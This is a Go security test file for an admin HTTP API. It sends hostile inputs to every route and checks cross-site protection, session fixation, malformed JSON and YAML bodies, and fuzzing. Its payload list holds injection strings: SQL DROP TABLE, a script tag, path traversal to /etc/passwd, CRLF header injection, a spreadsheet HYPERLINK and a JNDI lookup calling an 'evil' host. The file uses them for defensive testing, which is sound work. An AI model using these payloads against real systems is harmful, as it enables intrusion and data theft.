package admin_test

import (
	"bytes"
	"encoding/json"
	"io"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/danielgtaylor/huma/v2"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// way is a route as an attacker knows it: from the document.
type way struct {
	method, path string
	op           *huma.Operation
}

func (r *room) ways() (all []way) {
	paths := r.server.OpenAPI().Paths
	for _, path := range slices.Sorted(maps.Keys(paths)) {
		item := paths[path]
		for method, op := range map[string]*huma.Operation{"GET": item.Get, "POST": item.Post, "PUT": item.Put, "PATCH": item.Patch, "DELETE": item.Delete} {
			if op != nil {
				all = append(all, way{method, path, op})
			}
		}
	}
	slices.SortFunc(all, func(x, y way) int { return strings.Compare(x.path+x.method, y.path+y.method) })
	return all
}

// fill puts a value into each part of the path that takes one.
func (w *way) fill(value string) string {
	path := w.path
	for _, p := range w.op.Parameters {
		if p.In == "path" {
			with := value
			if len(p.Schema.Enum) > 0 {
				with = p.Schema.Enum[0].(string)
			}
			path = strings.ReplaceAll(path, "{"+p.Name+"}", url.PathEscape(with))
		}
	}
	return path
}

// body is a document with the value in all places that take text.
func (w *way) body(registry huma.Registry, value string) any {
	if w.op.RequestBody == nil {
		return nil
	}
	content := w.op.RequestBody.Content["application/json"]
	if content == nil {
		return value
	}
	return filled(registry, content.Schema, value, 0)
}

func filled(registry huma.Registry, s *huma.Schema, value string, depth int) any {
	if s.Ref != "" {
		s = registry.SchemaFromRef(s.Ref)
	}
	switch {
	case depth > 6:
		return nil
	case len(s.Enum) > 0:
		return s.Enum[0]
	case s.Format == "date-time":
		return "2026-11-29T12:00:00Z"
	}
	switch s.Type {
	case huma.TypeObject:
		doc := obj{}
		for name, p := range s.Properties {
			doc[name] = filled(registry, p, value, depth+1)
		}
		if len(doc) == 0 {
			doc[value] = value
		}
		return doc
	case huma.TypeArray:
		return []any{filled(registry, s.Items, value, depth+1)}
	case huma.TypeInteger, huma.TypeNumber:
		if s.Minimum != nil {
			return *s.Minimum
		}
		return 1
	case huma.TypeBoolean:
		return true
	}
	return value
}

// knock sends a body to a way, and returns what came back.
func (r *room) knock(key string, w way, path, kind string, body []byte) (*http.Response, string) {
	r.t.Helper()
	req, err := http.NewRequestWithContext(r.t.Context(), w.method, r.url+path, bytes.NewReader(body))
	require.NoError(r.t, err)
	req.Header.Set("Content-Type", kind)
	req.Header.Set("Authorization", "Bearer "+key)
	req.Header.Set("If-None-Match", "*")
	res, err := http.DefaultTransport.RoundTrip(req)
	require.NoError(r.t, err)
	defer func() { require.NoError(r.t, res.Body.Close()) }()
	if res.Header.Get("Content-Type") == "text/event-stream" { // which does not end
		return res, ""
	}
	doc, err := io.ReadAll(res.Body)
	require.NoError(r.t, err)
	r.promised(req, res, doc)
	return res, string(doc)
}

// ownerKey makes a key that may everything.
func (r *room) ownerKey() string {
	return r.owner().want(http.StatusOK, "POST", "/keys", obj{"name": "attack", "role": "owner"})["key"].(string)
}

// hostile texts, each of which has broken some program.
var hostile = []string{
	"\x00", "a\x00b", "\u202e<script>alert(1)</script>", "'; DROP TABLE users; --", `=HYPERLINK("http://evil")`, "../../etc/passwd", "%2e%2e%2f", "a\r\nSet-Cookie: x=y",
	"{{ 1/0 }}", "${jndi:ldap://evil}", "\ufffd\uffff", "👩‍👩‍👧‍👦", "-1", "9223372036854775807", "99999999999999999999", "1e999", "NaN", "\\", "\"", " ", strings.Repeat("long ", 2000),
}

// TestHostileTextsAreAnswered: whatever stands where text is expected, no route
// fails, and no answer is read as a page.
func TestHostileTextsAreAnswered(t *testing.T) {
	t.Parallel()
	r := newRoom(t)
	r.apply(twoShops)
	key := r.ownerKey()
	for _, w := range r.ways() {
		for _, value := range hostile {
			r.wait(time.Second) // nobody is held back
			body, err := json.Marshal(w.body(r.server.OpenAPI().Components.Schemas, value))
			require.NoError(t, err)
			query := url.Values{}
			for _, p := range w.op.Parameters {
				if p.In == "query" && p.Schema.Type == huma.TypeString && len(p.Schema.Enum) == 0 {
					query.Set(p.Name, value)
				}
			}
			res, doc := r.knock(key, w, w.fill(value)+"?"+query.Encode(), "application/json", body)
			assert.Less(t, res.StatusCode, 500, "%s %s with %.40q: %s", w.method, w.path, value, doc)
			assert.Equal(t, "nosniff", res.Header.Get("X-Content-Type-Options"), w.path)
			assert.NotContains(t, res.Header.Get("Content-Type"), "html", w.path)
			assert.Empty(t, res.Header.Get("Set-Cookie"), "%s %s with %.40q", w.method, w.path, value)
		}
	}
}

// TestOtherSitesCannotSendAnything: not with a form, not to any route.
func TestOtherSitesCannotSendAnything(t *testing.T) {
	t.Parallel()
	r := newRoom(t)
	owner := r.owner()
	for _, w := range r.ways() {
		if w.method == "GET" {
			continue
		}
		for header, value := range map[string]string{"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"} {
			for _, kind := range []string{"application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"} {
				req, err := http.NewRequestWithContext(t.Context(), w.method, r.url+w.fill("1"), strings.NewReader("{}"))
				require.NoError(t, err)
				req.Header.Set("Content-Type", kind)
				req.Header.Set("Cookie", owner.cookie)
				req.Header.Set(header, value)
				owner.sendAny(req, http.StatusForbidden)
			}
		}
	}
	for _, kind := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"} {
		req := owner.request("POST", "/keys")
		req.Header.Set("Content-Type", kind)
		req.Body, req.ContentLength = io.NopCloser(strings.NewReader(`{"name": "mine", "role": "owner"}`)), 33
		owner.sendAny(req, http.StatusUnsupportedMediaType)
	}
}

// sendAny sends a request that must have this status, whatever it says.
func (c *client) sendAny(req *http.Request, status int) {
	c.room.t.Helper()
	res, err := http.DefaultTransport.RoundTrip(req)
	require.NoError(c.room.t, err)
	require.NoError(c.room.t, res.Body.Close())
	require.Equal(c.room.t, status, res.StatusCode, "%s %s as %s", req.Method, req.URL, req.Header.Get("Content-Type"))
}

// TestSessionsAreNotFixed: a cookie that somebody planted is not the one that
// signing in makes valid, and no script or other site gets at it.
func TestSessionsAreNotFixed(t *testing.T) {
	t.Parallel()
	r := newRoom(t)
	r.owner()
	victim := r.browser()
	victim.cookie = "repartee_session=rs_planted"
	res, _ := victim.do("POST", "/session", obj{"email": "ann@example.com", "password": password})
	require.Equal(t, http.StatusOK, res.StatusCode)
	require.Len(t, res.Cookies(), 1)
	c := res.Cookies()[0]
	assert.NotContains(t, c.Value, "planted")
	assert.True(t, c.HttpOnly && c.Secure && c.SameSite == http.SameSiteLaxMode && c.Path == "/" && c.Domain == "" && c.MaxAge > 0)
	attacker := r.browser()
	attacker.cookie = "repartee_session=rs_planted"
	attacker.want(http.StatusUnauthorized, "GET", "/session", nil)
}

// TestShapesOfBodies: too deep, too large, cut off, no JSON at all.
func TestShapesOfBodies(t *testing.T) {
	t.Parallel()
	r := newRoom(t)
	r.apply(twoShops)
	key := r.ownerKey()
	bodies := map[string]string{
		"deep arrays": strings.Repeat("[", 100_000), "deep objects": strings.Repeat(`{"a":`, 100_000), "closed deep arrays": strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000),
		"large": `"` + strings.Repeat("x", 12<<20) + `"`, "cut off": `{"name": "`, "nothing": "", "null": "null", "a number": "1e400", "bad UTF-8": "{\"name\": \"\xff\xfe\"}", "a lone surrogate": `{"name": "\ud800"}`,
		"a key twice": `{"name": "a", "name": "b"}`, "YAML bombs": "a: &a [x,x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nd: [*c,*c,*c]",
	}
	for _, w := range r.ways() {
		if w.op.RequestBody == nil {
			continue
		}
		for name, body := range bodies {
			r.wait(time.Second)
			kind := slices.Sorted(maps.Keys(w.op.RequestBody.Content))[0]
			res, doc := r.knock(key, w, w.fill("places"), kind, []byte(body))
			assert.Less(t, res.StatusCode, 500, "%s %s with %s: %.200s", w.method, w.path, name, doc)
		}
	}
}

// FuzzBodies throws bodies at every route, as an owner.
func FuzzBodies(f *testing.F) {
	r := newRoom(f)
	r.apply(twoShops)
	key := r.ownerKey()
	ways := r.ways()
	for i := range ways {
		body, err := json.Marshal(ways[i].body(r.server.OpenAPI().Components.Schemas, "x"))
		require.NoError(f, err)
		f.Add(uint16(i), "x", string(body))
	}
	f.Fuzz(func(t *testing.T, n uint16, value, body string) {
		w := ways[int(n)%len(ways)]
		r.wait(time.Second)
		kind := "application/json"
		if w.op.RequestBody != nil {
			kind = slices.Sorted(maps.Keys(w.op.RequestBody.Content))[0]
		}
		req, err := http.NewRequestWithContext(t.Context(), w.method, r.url+w.fill(value), strings.NewReader(body))
		if err != nil {
			t.Skip("no address")
		}
		req.Header.Set("Content-Type", kind)
		req.Header.Set("Authorization", "Bearer "+key)
		res, err := http.DefaultTransport.RoundTrip(req)
		require.NoError(t, err)
		require.NoError(t, res.Body.Close())
		require.Less(t, res.StatusCode, 500, "%s %s %q", w.method, w.path, body)
	})
}
